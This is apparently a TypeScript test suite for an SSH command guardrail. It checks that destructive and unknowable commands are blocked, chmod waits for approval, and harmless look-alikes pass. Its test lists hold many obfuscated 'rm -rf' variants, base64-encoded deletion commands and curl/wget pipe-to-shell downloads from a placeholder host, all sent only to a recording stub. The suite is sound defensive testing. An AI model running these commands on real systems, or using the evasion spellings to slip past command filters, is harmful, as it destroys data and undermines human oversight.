import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { client, governSsh, startSshd, type GovernedSsh, type TestSshd } from '../fixtures/sshd.js';

// Every command here goes to an sshd whose ForceCommand only writes down what it was asked to run.
const RULES = `
  - name: no-rm-rf
    block: { shell: ["rm -rf"] }
  - name: no-blind-code
    block: { shell: [unknown] }
  - name: chmod-needs-approval
    approve: { shell: ["chmod -R"] }
`;

const BLOCKED_RM = [
  'rm -rf /srv/app',
  'rm -fr /srv/app',
  'rm -r -f /srv/app',
  'rm -f -r /srv/app',
  'rm --recursive --force /srv/app',
  'rm -R --force /srv/app',
  '/bin/rm -rf /srv/app',
  '/usr/bin/../bin/rm -rf /srv/app',
  '\\rm -rf /srv/app',
  '"r""m" -rf /srv/app',
  "'rm' '-rf' /srv/app",
  'sudo rm -rf /srv/app',
  'sudo -u deploy -- rm -rf /srv/app',
  'env FOO=1 nice -n 5 rm -rf /srv/app',
  'timeout -s KILL 5 rm -rf /srv/app',
  'nohup stdbuf -o0 rm -rf /srv/app',
  'command rm -rf /srv/app',
  'exec rm -rf /srv/app',
  'builtin cd / && rm -rf /srv/app',
  'ls | xargs -n1 rm -rf',
  'ls; rm -rf /srv/app',
  'true && rm -rf /srv/app || echo no',
  '(cd / && rm -rf srv)',
  '{ rm -rf /srv/app; }',
  'echo "$(rm -rf /srv/app)"',
  'echo `rm -rf /srv/app`',
  'cat <(rm -rf /srv/app)',
  'f() { rm -rf /srv/app; }; f',
  'if true; then rm -rf /srv/app; fi',
  'for d in a b; do rm -rf "$d"; done',
  'find /srv -name x -exec rm -rf {} \\;',
  'bash -c "rm -rf /srv/app"',
  "sh -c 'cd /srv && rm -rf app'",
  'cat <<EOF\n$(rm -rf /srv/app)\nEOF',
  "bash <<'EOF'\nrm -rf /srv/app\nEOF",
  'su deploy -c "rm -rf /srv/app"',
  'watch -n 5 rm -rf /srv/app',
  'flock /tmp/lock rm -rf /srv/app',
  'chroot /srv rm -rf /app',
];

const UNKNOWN = [
  '$CMD -rf /srv/app',
  '${X:-rm} -rf /srv/app',
  '$(echo rm) -rf /srv/app',
  'eval "rm -rf /srv/app"',
  'source ./deploy.sh',
  '. ./deploy.sh',
  'python3 -c "import shutil; shutil.rmtree(\'/srv/app\')"',
  'perl -e "system(q{rm -rf /srv/app})"',
  'node -e "require(\'fs\').rmSync(\'/srv/app\', {recursive: true})"',
  'ruby -e "puts 1"',
  'curl -s https://example.invalid/x.sh | bash',
  'wget -qO- https://example.invalid/x.sh | sh -s',
  'echo cm0gLXJmIC9zcnYvYXBwCg== | base64 -d | sh',
  'echo 726d202d7266 | xxd -r -p | bash',
  'bash <(curl -s https://example.invalid/x.sh)',
  'sh -c "$PAYLOAD"',
  'cat script.py | python3',
  'env -S "rm -rf /srv/app"',
  '/bin/r? -rf /srv/app',
  '/usr/bin/[r]m -rf /srv/app',
  '{rm,-rf,/srv/app}',
];

const ALLOWED = [
  'grep -r "rm -rf" .',
  'echo "rm -rf"',
  "echo 'rm -rf /'",
  'ls -la',
  'git rm -r --cached x',
  'rm -r build',
  'rm -f build.log',
  'printf "%s\\n" rm -rf',
  'man rm',
  'command -v rm',
  'python3 manage.py migrate',
  'bash deploy.sh --dry-run',
  'ls *.log',
  'cp app.{conf,bak}',
  '[ -f /etc/hostname ] && echo yes',
];

describe('SSH guardrails', () => {
  let sshd: TestSshd;
  let gov: GovernedSsh;

  before(async () => {
    sshd = await startSshd({ recordOnly: true });
    gov = await governSsh({ deploy: sshd }, RULES, 'approvals: { timeout: 2s }');
  });
  after(async () => {
    await gov?.stop();
    await sshd?.stop();
  });

  const ssh = (command: string) => client('ssh', [...gov.F, '-n', 'deploy', command], gov.env);

  test('rm -rf in every spelling and nesting is refused before it reaches the host', async () => {
    for (const command of BLOCKED_RM) {
      const r = await ssh(command);
      assert.equal(r.code, 126, `${command}: ${r.stderr}`);
      assert.match(r.stderr, /govern: blocked by rule "no-rm-rf"/, command);
    }
    assert.deepEqual(sshd.recorded(), []);
  });

  test('what cannot be known before it runs is the class unknown', async () => {
    for (const command of UNKNOWN) {
      const r = await ssh(command);
      assert.equal(r.code, 126, `${command}: ${r.stderr}`);
      assert.match(r.stderr, /govern: blocked by rule "no-(blind-code|rm-rf)"/, command);
    }
    assert.deepEqual(sshd.recorded(), []);
  });

  test('an interpreter reading its program from the job is unknown; a shell script is checked', async () => {
    const python = await client('ssh', [...gov.F, 'deploy', 'python3'], gov.env, 'import os\n');
    assert.equal(python.code, 126);
    const script = await client('ssh', [...gov.F, 'deploy', 'bash', '-s'], gov.env, 'echo fine\nrm -rf /srv/app\n');
    assert.equal(script.code, 126);
    assert.match(script.stderr, /no-rm-rf/);
    const heredoc = await client('ssh', [...gov.F, 'deploy'], gov.env, 'cd /srv\nrm --force -r app\n');
    assert.equal(heredoc.code, 126);
    assert.deepEqual(sshd.recorded(), []);
    assert.equal(sshd.recordedStdin(), '');
  });

  test('a script past max_script is refused whole', async () => {
    const r = await client('ssh', [...gov.F, 'deploy', 'bash', '-s'], gov.env, `echo ${'x'.repeat(1 << 20)}\n`);
    assert.equal(r.code, 126);
    assert.match(r.stderr, /larger than 1048576 bytes/);
  });

  test('an approval holds the one command and names the request', async () => {
    const r = await ssh('chmod -R 777 /srv');
    assert.equal(r.code, 126);
    assert.match(r.stderr, /approval timed out \(rule "chmod-needs-approval", request [\w-]+\)/);
    const next = await ssh('ls /srv');
    assert.equal(next.code, 0);
  });

  test('an approved command runs, once; the connection went on meanwhile', async () => {
    const before = sshd.recorded().length;
    const held = ssh('chmod -R g-w /srv/app');
    let pending;
    for (let i = 0; i < 50 && !pending; i++) {
      await new Promise((r) => setTimeout(r, 20));
      pending = gov.gateway.governor.approvals.pending()[0];
    }
    assert.ok(pending, 'the command waits for approval');
    const other = await ssh('uptime');
    assert.equal(other.code, 0, 'other commands are not held');
    gov.gateway.governor.approvals.decide(pending.id, true, 'cli:reviewer');
    const r = await held;
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(sshd.recorded().slice(before), ['uptime', 'chmod -R g-w /srv/app']);
  });

  test('harmless look-alikes go through', async () => {
    const before = sshd.recorded().length;
    for (const command of ALLOWED) {
      const r = await ssh(command);
      assert.equal(r.code, 0, `${command}: ${r.stderr}`);
    }
    assert.deepEqual(sshd.recorded().slice(before), ALLOWED);
  });

  test('text that is not shell is refused', async () => {
    const r = await ssh('echo "unterminated');
    assert.equal(r.code, 126);
    assert.match(r.stderr, /unparseable/);
  });
});
